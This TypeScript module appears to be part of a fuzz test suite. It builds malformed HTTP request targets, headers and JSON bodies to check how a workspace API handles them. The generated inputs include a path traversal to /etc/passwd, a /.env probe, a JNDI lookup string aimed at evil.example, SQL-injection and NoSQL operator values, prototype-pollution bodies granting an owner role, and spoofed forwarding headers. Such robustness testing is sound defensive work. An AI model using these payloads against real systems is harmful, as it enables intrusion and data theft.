// The odd parts that hostile requests are made of: targets, header lines, bodies. All of them are bytes
// that a server must be able to read as one request; what breaks the framing is in broken-bytes.ts.

import fc from 'fast-check';
import type { Random } from './random.ts';

/** Junk that fast-check is good at, made once per run. */
export interface Junk {
  readonly json: readonly string[];
  readonly text: readonly string[];
}

export function makeJunk(seed: number): Junk {
  const run = { seed, numRuns: 400 };
  return {
    json: fc.sample(fc.json({ stringUnit: 'binary', maxDepth: 4 }), run),
    // Any code point, lone surrogates left out by the encoding; then what a terminal would choke on.
    text: [
      ...fc.sample(fc.string({ unit: 'binary', maxLength: 50 }), run),
      ...fc.sample(fc.string({ unit: 'binary-ascii', maxLength: 50 }), run),
    ],
  };
}

// ---- targets -------------------------------------------------------------------------------------

/** Paths beside the API, and things that look like parts of other services. */
const elsewhere = [
  '/',
  '/healthz',
  '/docs',
  '/openapi.json',
  '/favicon.ico',
  '/.env',
  '/api',
  '/api/v1',
  '/api/v2/workspaces',
  '/API/V1/workspaces',
  '/api/v1/nothing',
  '/api/v1/__proto__',
  '/api/v1/constructor',
  '/api/v1/workspaces/__proto__',
  '/api/v1/workspaces/toString/members',
  '/api/v1/api-keys/hasOwnProperty',
  '/api/v1/workspaces/wsp-000000000000/members/more',
];

const endings = [
  '%00',
  '%0a',
  '%7f',
  '%2f',
  '%5c',
  '%',
  '%z',
  '%zz',
  '%c0%af',
  '%e0%a4%a',
  '%ff',
  '%u0041',
  '%25',
  '/.',
  '/..',
  '/%2e%2e',
  '/../../etc/passwd',
  '//',
  '/\\',
  ';x=1',
  '#fragment',
  '.json',
  '~',
  '%20',
  '+',
  '|',
  '{id}',
  "'--",
];

export function elsewhereTarget(random: Random): string {
  return random.pick(elsewhere);
}

/** The same path written oddly: either it still means the same, or it means nothing. */
export function oddTarget(random: Random, path: string): string {
  switch (random.below(14)) {
    case 0:
      return `${path}?${queryJunk(random)}`;
    case 1:
      return path.replace(/[a-z]/g, (letter) =>
        random.chance(0.3) ? `%${letter.charCodeAt(0).toString(16)}` : letter,
      );
    case 2:
      return swapOneSlash(random, path, random.pick(['%2f', '%2F', '%252f', '\\', '//', '/./']));
    case 3:
      return swapOneSlash(random, path, random.pick(['/../', '/%2e/', '/%2e%2e/', ';/']));
    case 4:
      return `${path}${'/'.repeat(random.between(1, 4))}`;
    case 5:
      return `${path}/?${queryJunk(random)}`;
    case 6:
      return path + random.pick(endings);
    case 7:
      return `${path}/${'x'.repeat(random.between(1, 6_000))}`;
    case 8:
      return random.pick(['http://', 'https://', 'HTTP://']) + random.pick(hosts) + path;
    case 9:
      return random.pick([`/${path}`, `//evil.example${path}/`, `///${path}`, `/\\evil.example/`]);
    case 10:
      return random.pick([`/\\evil.example${path}/`, `/\\\\evil.example/`, `/.${path}/`]);
    case 11:
      return path.toUpperCase();
    case 12:
      return `${path}?${'&a=b'.repeat(random.between(1, 1_500))}`;
    default:
      return path.replace('/api/v1', random.pick(['/api/v1/api/v1', '/api//v1', '/api/v01', '/']));
  }
}

function swapOneSlash(random: Random, path: string, by: string): string {
  const [first = 0, ...others] = [...path.matchAll(/\//g)].map(({ index }) => index);
  // The first one stays where there is another: without it the target would be none.
  const at = others.length === 0 ? first + 1 : random.pick(others);
  return path.slice(0, at) + by + path.slice(at + 1);
}

const queryWords = [
  'cursor',
  'limit',
  'allow_partial',
  '__proto__',
  'a[]',
  'a[b]',
  '%',
  '%00',
  '=',
];

function queryJunk(random: Random): string {
  const pairs = Array.from({ length: random.between(0, 5) }, () => {
    const word = random.pick(queryWords);
    return random.pick([word, `${word}=`, `${word}=1`, `${word}=%ff%fe`, `=${word}`, `?${word}`]);
  });
  return pairs.join(random.pick(['&', ';', '&&', '?']));
}

// ---- headers -------------------------------------------------------------------------------------

export const hosts = ['localhost', '127.0.0.1:8080', 'evil.example', '[::1]', 'a'.repeat(300), '@'];

const tokens = [
  ['Accept', ['*/*', 'text/html', 'application/xml;q=0.9', '', ',,,']],
  ['Accept-Encoding', ['gzip', 'br;q=1, *;q=0', 'identity;q=0']],
  ['Cookie', ['a=b', 'session=../../x', '=;=;=']],
  ['Range', ['bytes=0-0', 'bytes=-1', 'bytes=9-1', 'lines=1-2', 'bytes=0-0,1-1,2-2']],
  ['If-Match', ['*', '"x"']],
  ['If-None-Match', ['*']],
  ['If-Modified-Since', ['yesterday', 'Sun, 06 Nov 1994 08:49:37 GMT']],
  ['Idempotency-Key', ['', 'a', 'k'.repeat(256), 'k'.repeat(3_000), '\u00e9\u00ff', 'a b', '{}']],
  ['X-Forwarded-For', ['127.0.0.1', '::1, evil']],
  ['X-Forwarded-Host', ['evil.example']],
  ['X-Forwarded-Proto', ['https']],
  ['X-Original-URL', ['/api/v1/workspaces']],
  ['X-HTTP-Method-Override', ['DELETE', 'GET']],
  ['Forwarded', ['for=unknown;host=evil.example']],
  ['Origin', ['null', 'https://evil.example']],
  ['Referer', ['//']],
  ['Upgrade', ['websocket', 'h2c', 'TLS/1.0, HTTP/2.0']],
  ['Connection', ['keep-alive', 'Upgrade', 'keep-alive, Upgrade, HTTP2-Settings', 'X-Request-ID']],
  ['Sec-WebSocket-Key', ['dGhlIHNhbXBsZSBub25jZQ==']],
  ['HTTP2-Settings', ['AAMAAABkAAQAAP__']],
  ['TE', ['trailers', 'gzip']],
  ['Trailer', ['Authorization']],
  ['Max-Forwards', ['0', '-1']],
  ['Proxy-Authorization', ['Basic eDp4']],
  ['Expect', ['100-continue', '200-ok', '100-Continue, 100-continue', '']],
  ['User-Agent', ['', "' OR 1=1 --", '${jndi:ldap://evil.example/a}']],
  ['__proto__', ['1']],
  ['constructor', ['1']],
] as const;

export function oddHeader(random: Random): string {
  const [name, values] = random.pick(tokens);
  return `${random.chance(0.2) ? name.toUpperCase() : name}: ${random.pick(values)}`;
}

/** Within the limit of 16 KiB for the whole head, if only just. */
export function manyHeaders(random: Random): string[] {
  if (random.chance(0.3)) return [`X-Long: ${'v'.repeat(random.between(1_000, 5_000))}`];
  const name = random.pick(['X-Many', 'Cookie', 'Accept']);
  return Array.from({ length: random.between(10, 300) }, (_, n) => `${name}: ${n}`);
}

export function oddContentType(random: Random): string {
  return random.pick([
    'application/json',
    'application/json; charset=utf-8',
    'application/json; charset="UTF-8"',
    'application/json; charset=utf-16',
    'application/json; charset=latin1',
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    '',
    ';;;',
    '; charset',
    'application/json; charset=; charset=utf-8',
  ]);
}

// ---- bodies --------------------------------------------------------------------------------------

const utf8 = (text: string) => Buffer.from(text, 'utf8');

export interface OddBody {
  readonly bytes: Buffer;
  /** The name that a server must have read from it, where it takes the body at all. */
  readonly name?: string;
}

export function oddBody(random: Random, junk: Junk, fresh: () => string): OddBody {
  const name = fresh();
  const valid = JSON.stringify({ name });
  switch (random.below(20)) {
    case 0:
    case 1:
    case 2:
      return { bytes: utf8(valid), name };
    case 3:
    case 4: {
      const odd = random.pick(junk.text);
      return { bytes: utf8(JSON.stringify({ name: odd })), name: odd };
    }
    case 5:
      return { bytes: utf8(random.pick(junk.json)) };
    case 6:
      return { bytes: utf8(`{"name":${random.pick(junk.json)}}`) };
    case 7:
      return { bytes: utf8(valid).subarray(0, random.below(valid.length)) };
    case 8:
      return { bytes: utf8(valid + random.pick(['x', '}', '{}', '\0', ',', ' \n\t'])), name };
    case 9:
      return { bytes: utf8(nested(random)) };
    case 10:
      return { bytes: utf8(`{"name":${random.pick(numbers)}}`) };
    case 11:
      return described(random.pick(strangeObjects).replaceAll('NAME', name));
    case 12: {
      const bytes = utf8(valid);
      bytes[random.between(9, bytes.length - 3)] = random.pick([0x80, 0xc0, 0xed, 0xfe, 0xff]);
      return { bytes };
    }
    case 13:
      return { bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(valid)]), name };
    case 14:
      return { bytes: Buffer.from(`\ufeff${valid}`, 'utf16le') };
    case 15:
      return { bytes: Buffer.alloc(0) };
    case 16:
      return { bytes: random.bytes(random.between(1, 200)) };
    case 17:
      return { bytes: utf8(`{"name":"${'x'.repeat(random.between(3_000, 6_000))}"}`) };
    case 18:
      return { bytes: utf8(valid + ' '.repeat(4_096 - valid.length + random.below(3))), name };
    default:
      // Under what a server throws away for the sender's sake; larger ones are in stalled-uploads.
      return random.chance(0.2)
        ? { bytes: Buffer.alloc(random.between(10_000, 200_000), 0x20) }
        : { bytes: utf8(valid), name };
  }
}

function described(text: string): OddBody {
  try {
    const read: unknown = JSON.parse(text)?.name;
    return { bytes: utf8(text), ...(typeof read === 'string' && { name: read }) };
  } catch {
    return { bytes: utf8(text) };
  }
}

const numbers = ['1e999', '-1e-999', '9'.repeat(400), '0.1e1', '-0', '1E400', '0x10', '01', 'NaN'];

const strangeObjects = [
  '{"name":"NAME","__proto__":{"role":"owner"}}',
  '{"__proto__":{"name":"NAME"}}',
  '{"name":"NAME","constructor":{"prototype":{}}}',
  '{"name":"first","name":"NAME"}',
  '{"name":"NAME","toString":1}',
  '{"name":"NAME","manage_keys":true}',
  '{"name":"NAME","workspace_id":"wsp-000000000000"}',
  '{"name":"NAME","workspace_id":{"$ne":null}}',
  '{"name":["NAME"]}',
  '{"name":{"toString":"NAME"}}',
  '{"Name":"NAME"}',
  '{"name":"NAME\\u0000"}',
  '{"name":"NAME\\ud800"}',
  '{"name":"\\u202eNAME"}',
  '{"name":null}',
  '{"":"NAME"}',
  '{"name":"NAME",}',
  "{'name':'NAME'}",
  '// comment\n{"name":"NAME"}',
  '[{"name":"NAME"}]',
  '"NAME"',
  'null',
];

function nested(random: Random): string {
  const depth = random.between(10, 1_500);
  const open = random.pick(['[', '{"a":', '{"name":', '[{"name":']);
  return open.repeat(depth) + (random.chance(0.5) ? ']'.repeat(depth) : '');
}
